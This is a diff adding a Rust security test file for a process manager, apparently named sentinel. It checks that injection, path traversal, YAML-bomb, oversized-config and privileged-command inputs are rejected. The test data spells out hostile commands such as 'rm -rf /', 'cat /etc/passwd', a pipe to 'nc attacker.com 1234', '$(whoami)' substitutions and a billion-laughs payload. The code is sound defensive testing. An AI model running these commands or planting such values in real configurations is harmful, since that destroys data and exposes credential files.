@@ -0,0 +1,259 @@
+/**
+ * @file Security Tests
+ * @glinr/sentinel
+ *
+ * Comprehensive security testing for input validation, command injection prevention,
+ * and the privileged command blocklist.
+ *
+ * Built by Glincker (A GLINR Product)
+ * Copyright (c) 2025 Glincker. All rights reserved.
+ *
+ * @see https://glincker.com/sentinel
+ */
+use sentinel::core::validation::{is_valid_process_name, resolve_allowed_path, validate_process};
+use sentinel::core::ConfigManager;
+use sentinel::models::{Config, GlobalSettings, ProcessConfig};
+use sentinel::SentinelError;
+use tempfile::tempdir;
+
+/// A process config as it would be written in a config file.
+fn process(name: &str, command: &str, args: &[&str]) -> ProcessConfig {
+    let yaml = serde_json::json!({ "name": name, "command": command, "args": args });
+    serde_json::from_value(yaml).unwrap()
+}
+
+/// Test: Command injection via process name
+#[test]
+fn test_command_injection_in_process_name() {
+    let malicious_names = vec![
+        "process; rm -rf /",
+        "process && cat /etc/passwd",
+        "process | nc attacker.com 1234",
+        "process `whoami`",
+        "process $(whoami)",
+        "process\nrm -rf /",
+    ];
+
+    for name in malicious_names {
+        let config = process(name, "echo", &["test"]);
+
+        // Names with shell metacharacters are rejected before anything runs
+        assert!(
+            validate_process(&config, &GlobalSettings::default()).is_err(),
+            "Process name '{}' contains shell metacharacters",
+            config.name
+        );
+    }
+}
+
+/// Test: Command injection via command arguments
+#[test]
+fn test_command_injection_in_arguments() {
+    // Arguments are passed to the program as they are, never through a
+    // shell, so metacharacters in them are harmless
+    for arg in [
+        "; rm -rf /",
+        "&& cat /etc/passwd",
+        "| nc attacker.com 1234",
+        "$(whoami)",
+    ] {
+        let config = process("test", "echo", &[arg]);
+        assert!(validate_process(&config, &GlobalSettings::default()).is_ok());
+    }
+
+    // A NUL would cut the argument short and a newline could start a new
+    // command in anything that logs or replays it
+    for arg in ["a\0b", "a\nrm -rf /", "a\rb"] {
+        let config = process("test", "echo", &[arg]);
+        assert!(
+            validate_process(&config, &GlobalSettings::default()).is_err(),
+            "Argument {:?} accepted",
+            arg
+        );
+    }
+    let config = process("test", "echo\nrm -rf /", &[]);
+    assert!(validate_process(&config, &GlobalSettings::default()).is_err());
+}
+
+/// Test: Path traversal in working directory
+#[test]
+fn test_path_traversal_in_cwd() {
+    let dir = tempdir().unwrap();
+    let root = dir.path().join("projects");
+    let project = root.join("api");
+    std::fs::create_dir_all(&project).unwrap();
+    let roots = vec![root.clone()];
+
+    assert_eq!(
+        resolve_allowed_path(&project, &roots).unwrap(),
+        project.canonicalize().unwrap()
+    );
+
+    // `..` is resolved before the check, so it can't climb out of a root
+    let escape = project.join("..").join("..");
+    assert!(matches!(
+        resolve_allowed_path(&escape, &roots),
+        Err(SentinelError::PathNotAllowed { .. })
+    ));
+    assert!(matches!(
+        resolve_allowed_path(dir.path(), &roots),
+        Err(SentinelError::PathNotAllowed { .. })
+    ));
+
+    // Neither can a symlink inside the root that points outside it
+    #[cfg(unix)]
+    {
+        let link = root.join("outside");
+        std::os::unix::fs::symlink(dir.path(), &link).unwrap();
+        assert!(matches!(
+            resolve_allowed_path(&link, &roots),
+            Err(SentinelError::PathNotAllowed { .. })
+        ));
+    }
+}
+
+/// Test: YAML bomb / Billion laughs attack
+#[test]
+fn test_yaml_bomb_protection() {
+    let yaml_bomb = r#"
+a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
+b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
+c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
+d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
+e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
+f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
+g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
+h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
+i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
+"#;
+
+    let dir = tempdir().unwrap();
+    let config_path = dir.path().join("bomb.yaml");
+    std::fs::write(&config_path, yaml_bomb).unwrap();
+
+    // Alias expansion is capped, so loading fails before the bomb expands
+    let result = ConfigManager::load_from_file(&config_path);
+    assert!(matches!(result, Err(SentinelError::InvalidConfig { .. })));
+}
+
+/// Test: Config file size limit
+#[test]
+fn test_config_file_size_limit() {
+    let dir = tempdir().unwrap();
+    let config_path = dir.path().join("huge.yaml");
+
+    // Create a large config file (>10MB)
+    let large_content = "processes:\n".to_string() + &"  - name: test\n".repeat(1_000_000);
+    std::fs::write(&config_path, large_content).unwrap();
+
+    // Oversized files are rejected before they are read
+    let result = ConfigManager::load_from_file(&config_path);
+    assert!(matches!(result, Err(SentinelError::InvalidConfig { .. })));
+}
+
+/// Test: Process name validation
+#[test]
+fn test_process_name_validation() {
+    let valid_names = vec!["my-app", "backend_service", "api.server", "worker123"];
+
+    let too_long = "a".repeat(256);
+    let invalid_names = vec![
+        "",                    // Empty
+        too_long.as_str(),     // Too long
+        "my app",              // Spaces
+        "../../../etc/passwd", // Path traversal
+        "process\x00name",     // Null byte
+        "process\nname",       // Newline
+    ];
+
+    for name in valid_names {
+        assert!(is_valid_process_name(name), "Valid name rejected: {}", name);
+    }
+
+    for name in invalid_names {
+        assert!(
+            !is_valid_process_name(name),
+            "Invalid name accepted: {}",
+            name
+        );
+    }
+}
+
+/// Test: Dependency cycle leads to DoS
+#[test]
+fn test_dependency_cycle_dos() {
+    let config: Config = serde_yaml::from_str(
+        r#"
+processes:
+  - name: a
+    command: echo
+    dependsOn: [b]
+  - name: b
+    command: echo
+    dependsOn: [a]
+"#,
+    )
+    .unwrap();
+
+    // Validation should detect cycle
+    let validation_result = ConfigManager::validate(&config);
+    assert!(
+        validation_result.is_err(),
+        "Dependency cycle was not detected"
+    );
+}
+
+/// Test: Blocked commands are rejected, also behind common wrappers
+///
+/// The blocklist catches privileged commands configured by mistake; it is
+/// not a sandbox, so a shell script file can still run anything.
+#[test]
+#[cfg(unix)]
+fn test_blocked_commands_rejected() {
+    // Blocked binaries are rejected unless privileged commands are allowed
+    let settings = GlobalSettings::default();
+    for binary in [
+        "sudo",
+        "su",
+        "shutdown",
+        "/usr/bin/sudo",
+        "sudo -u root id",
+        "env sudo id",
+        "sh -c sudo",
+    ] {
+        let config = process("escalate", binary, &[]);
+        assert!(
+            validate_process(&config, &settings).is_err(),
+            "Blocked command accepted: {}",
+            binary
+        );
+    }
+
+    let settings = GlobalSettings {
+        allow_privileged_commands: true,
+        ..GlobalSettings::default()
+    };
+    let config = process("escalate", "sudo", &["id"]);
+    assert!(validate_process(&config, &settings).is_ok());
+}
+
+/// Test: Input sanitization for log viewing
+#[test]
+fn test_log_input_sanitization() {
+    let malicious_process_names = vec![
+        "../../../var/log/system.log",
+        "/etc/passwd",
+        "process\x00name",
+        "process\n../../sensitive.log",
+        "..",
+    ];
+
+    for name in malicious_process_names {
+        // Validate process name before using in filesystem operations
+        assert!(
+            !is_valid_process_name(name),
+            "Malicious name not rejected: {}",
+            name
+        );
+    }
+}